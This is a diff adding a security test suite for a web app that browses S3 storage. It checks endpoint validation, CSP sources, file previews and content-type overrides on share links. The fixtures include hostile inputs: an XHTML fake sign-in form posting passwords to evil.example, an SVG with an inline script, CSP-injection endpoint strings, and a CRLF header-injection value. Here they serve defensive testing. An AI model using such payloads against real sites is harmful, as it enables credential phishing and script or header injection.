@@ -1,0 +1,197 @@
+/**
+ * What a stranger's input or a hostile object can do through storage, against the real database
+ * and the real Swift S3 server (which honours response-content-type): endpoints are URLs and
+ * nothing more, the CSP names only the signed-in owner's storage, previews cannot run content,
+ * and the content-type override cannot make a link render a page.
+ */
+import type { S3Client } from "@aws-sdk/client-s3";
+import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
+import type { SessionUser } from "@/lib/auth/session";
+
+vi.mock("@/lib/auth/session", async () => (await import("./request-context")).sessionModule);
+vi.mock("next/cache", async () => (await import("./request-context")).cacheModule);
+vi.mock("next/navigation", async () => (await import("./request-context")).navigationModule);
+const { session } = await import("./request-context");
+
+const { db } = await import("@/lib/db");
+const { saveConnectionAction } = await import("@/lib/actions/save-connection");
+const { testConnectionAction } = await import("@/lib/actions/test-connection");
+const { createShareLinkAction } = await import("@/lib/actions/create-share-link");
+const { openConnectionOrThrow } = await import("@/lib/storage/connections");
+const { loadObjectView } = await import("@/lib/storage/listing");
+const { storageOriginsForCsp } = await import("@/lib/security/storage-origins");
+const h = await import("./helpers");
+
+const { services } = h;
+let owner: SessionUser;
+let stranger: SessionUser;
+let admin: S3Client;
+let bucket: string;
+let connectionId: string;
+
+const XHTML_FORM =
+  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example/"><label>Password <input name="password" type="password"/></label><button>Sign in</button></form></body></html>';
+
+function connectionFields(overrides: Record<string, string> = {}): Record<string, string> {
+  return {
+    name: `Conn ${h.randomSuffix()}`,
+    provider: "custom",
+    endpoint: services.s3.endpoint,
+    region: services.s3.region,
+    forcePathStyle: "on",
+    accessKeyId: services.s3.accessKeyId,
+    secretAccessKey: services.s3.secretAccessKey,
+    buckets: "",
+    ...overrides,
+  };
+}
+
+const save = (fields: Record<string, string>) => h.runRedirectingAction(() => saveConnectionAction({ status: "idle" }, h.formData(fields)));
+
+beforeAll(async () => {
+  owner = await h.createTestUser("safety-owner");
+  stranger = await h.createTestUser("safety-stranger");
+  admin = h.adminS3();
+  bucket = await h.createBucket(admin, "safety");
+  await h.putObjects(admin, bucket, [
+    { key: "invoice.pdf", body: Buffer.from(XHTML_FORM), contentType: "application/xhtml+xml" },
+    { key: "page.pdf", body: Buffer.from("<html><body><form><input name=password></form></body></html>"), contentType: "application/octet-stream" },
+    { key: "real.pdf", body: Buffer.from("%PDF-1.4\n%%EOF\n"), contentType: "application/pdf" },
+    { key: "photo.png", body: Buffer.from("not really a png"), contentType: "binary/octet-stream" },
+    { key: "logo.svg", body: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), contentType: "image/svg+xml" },
+    { key: "notes.txt", body: Buffer.from("<b>plain</b> notes"), contentType: "text/plain" },
+  ]);
+  session.user = owner;
+  expect(await save(connectionFields({ name: "Owner's Swift" }))).toEqual({ state: expect.objectContaining({ status: "success" }) });
+  connectionId = (await db.storageConnection.findFirstOrThrow({ where: { ownerId: owner.id }, select: { id: true } })).id;
+});
+
+afterAll(async () => {
+  session.user = null;
+  admin?.destroy();
+  await h.deleteTestUsers(owner, stranger);
+});
+
+describe("the endpoint field", () => {
+  it.each([
+    ["a CSP directive after ;", "http://host.example;sandbox", /remove “;”/],
+    ["script-src-elem after ;", "http://host.example;script-src-elem", /remove “;”/],
+    ["a second source after ,", "http://host.example,evil.example", /remove “,”/],
+    ["double quotes", 'http://"host.example"', /remove “"”/],
+    ["single quotes", "http://host.example/'unsafe-inline'", /remove “'”/],
+    ["a space", "http://host.example 'unsafe-inline'", /remove spaces/],
+    ["a wildcard", "http://*.example.com", /remove “\*”/],
+    ["credentials", "http://user:password@host.example", /Leave credentials out/],
+    ["a query", "http://host.example/?x=1", /no query/],
+    ["a fragment", "http://host.example/#x", /fragment/],
+  ])("refuses %s with a field error and saves nothing", async (_label, endpoint, message) => {
+    session.user = owner;
+    const before = await db.storageConnection.count({ where: { ownerId: owner.id } });
+    const result = await save(connectionFields({ endpoint }));
+    expect(result).toEqual({ state: expect.objectContaining({ status: "invalid" }) });
+    const state = (result as { state: { fieldErrors: Record<string, string[]> } }).state;
+    expect(Object.keys(state.fieldErrors)).toEqual(["endpoint"]);
+    expect(state.fieldErrors.endpoint![0]).toMatch(message);
+    expect(await db.storageConnection.count({ where: { ownerId: owner.id } })).toBe(before);
+
+    // Test connection refuses it the same way, before any request.
+    const tested = await testConnectionAction({ status: "idle" }, h.formData(connectionFields({ endpoint })));
+    expect(tested).toMatchObject({ status: "invalid", fieldErrors: { endpoint: [expect.stringMatching(message)] } });
+  });
+
+  it("stores the parsed URL, not the text as typed", async () => {
+    session.user = owner;
+    const upper = services.s3.endpoint.replace("http://", "HTTP://") + "//";
+    const name = `Normalised ${h.randomSuffix()}`;
+    expect(await save(connectionFields({ name, endpoint: upper }))).toEqual({ state: expect.objectContaining({ status: "success" }) });
+    const row = await db.storageConnection.findFirstOrThrow({ where: { ownerId: owner.id, name } });
+    expect(row.endpoint).toBe(services.s3.endpoint);
+    await db.storageConnection.delete({ where: { id: row.id } });
+  });
+});
+
+describe("the Content-Security-Policy's storage sources", () => {
+  it("come only from the signed-in owner's connections, as parsed origins", async () => {
+    session.user = stranger;
+    expect(await save(connectionFields({ name: "Stranger's", endpoint: "https://stranger-storage.example:9443/base" }))).toEqual({
+      state: expect.objectContaining({ status: "success" }),
+    });
+    // A row written around the form (an old version, a hand edit) still cannot inject anything.
+    await db.storageConnection.updateMany({ where: { ownerId: stranger.id }, data: { endpoint: "https://stranger-storage.example:9443;sandbox" } });
+    await db.storageConnection.create({
+      data: { ownerId: stranger.id, name: "Raw", provider: "custom", endpoint: "https://ok.example 'unsafe-inline'", region: "x", accessKeyId: "k", secretAccessKeyEnc: "x" },
+    });
+
+    const ownerSources = await storageOriginsForCsp(owner.id);
+    expect(ownerSources).toEqual([services.s3.endpoint]);
+    const strangerSources = await storageOriginsForCsp(stranger.id);
+    expect(strangerSources).toEqual([]);
+    expect(JSON.stringify(ownerSources)).not.toContain("stranger");
+  });
+});
+
+describe("previews", () => {
+  async function view(key: string) {
+    const open = await openConnectionOrThrow(owner.id, connectionId);
+    const loaded = await loadObjectView(open, bucket, key);
+    if (!loaded.ok) throw new Error(`${key}: ${loaded.error.title}`);
+    return loaded.value;
+  }
+
+  it("does not render invoice.pdf stored as application/xhtml+xml", async () => {
+    const details = await view("invoice.pdf");
+    expect(details.contentType).toBe("application/xhtml+xml");
+    expect(details.preview).toBeNull();
+  });
+
+  it("gives no preview to an SVG", async () => {
+    expect((await view("logo.svg")).preview).toBeNull();
+  });
+
+  it.each([
+    ["real.pdf", "pdf", "application/pdf"],
+    ["page.pdf", "pdf", "application/pdf"],
+    ["photo.png", "image", "image/png"],
+  ])("forces the preview type: %s is served as %s (%s)", async (key, kind, type) => {
+    const details = await view(key);
+    expect(details.preview).toMatchObject({ kind, url: expect.stringContaining(`response-content-type=${encodeURIComponent(type)}`) });
+    const response = await h.fetchBytes((details.preview as { url: string }).url);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe(type);
+    expect(response.headers.get("content-disposition")).toBe("inline");
+  });
+
+  it("shows text as text, read on the server", async () => {
+    expect((await view("notes.txt")).preview).toEqual({ kind: "text", text: "<b>plain</b> notes" });
+  });
+});
+
+describe("the content-type override in Quick Share", () => {
+  const share = (fields: Record<string, string>) =>
+    createShareLinkAction({ status: "idle" }, h.formData({ connectionId, bucket, key: "notes.txt", expiryMode: "preset", preset: "1h", ...fields }));
+
+  it.each([
+    ["text/html with Open in browser", { contentType: "text/html", disposition: "inline" }, /can run as a web page/],
+    ["image/svg+xml with Open in browser", { contentType: "image/svg+xml", disposition: "inline" }, /can run as a web page/],
+    ["XHTML with Open in browser", { contentType: "application/xhtml+xml; charset=utf-8", disposition: "inline" }, /can run as a web page/],
+    ["JavaScript with Open in browser", { contentType: "text/javascript", disposition: "inline" }, /can run as a web page/],
+    ["CR/LF inside a quoted parameter", { contentType: 'text/plain; charset="utf-8\r\nX-Injected: 1"', disposition: "attachment" }, /printable ASCII only/],
+    ["a line break at the end", { contentType: "text/plain\n", disposition: "attachment" }, /printable ASCII only/],
+  ])("refuses %s next to the field and creates nothing", async (_label, fields, message) => {
+    session.user = owner;
+    const before = await db.shareLink.count({ where: { ownerId: owner.id } });
+    const state = await share(fields);
+    expect(state).toMatchObject({ status: "invalid", fieldErrors: { contentType: [expect.stringMatching(message)] } });
+    expect(await db.shareLink.count({ where: { ownerId: owner.id } })).toBe(before);
+  });
+
+  it("allows an active type with Download: the link downloads it", async () => {
+    session.user = owner;
+    const state = await share({ contentType: "text/html", disposition: "attachment" });
+    expect(state).toMatchObject({ status: "success" });
+    const url = (state as { data: { url: string } }).data.url;
+    const response = await h.fetchBytes(url);
+    expect(response.headers.get("content-type")).toBe("text/html");
+    expect(response.headers.get("content-disposition")).toMatch(/^attachment;/);
+  });
+});
